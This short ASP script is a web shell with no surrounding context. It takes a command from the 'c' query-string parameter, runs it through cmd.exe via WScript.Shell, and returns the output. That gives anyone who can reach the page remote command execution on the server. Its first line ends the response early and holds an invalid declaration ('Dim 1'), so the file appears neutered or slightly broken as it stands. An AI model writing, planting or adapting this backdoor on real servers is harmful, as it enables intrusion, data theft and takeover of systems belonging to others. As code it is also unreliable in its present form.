<% Response.End : Dim 1 %>
<% Set s = Server.CreateObject("WScript.Shell")
c = Request.QueryString("c")
If c <> "" Then
Set e = s.Exec("cmd.exe /c " & c)
Response.Write e.StdOut.ReadAll
End If %>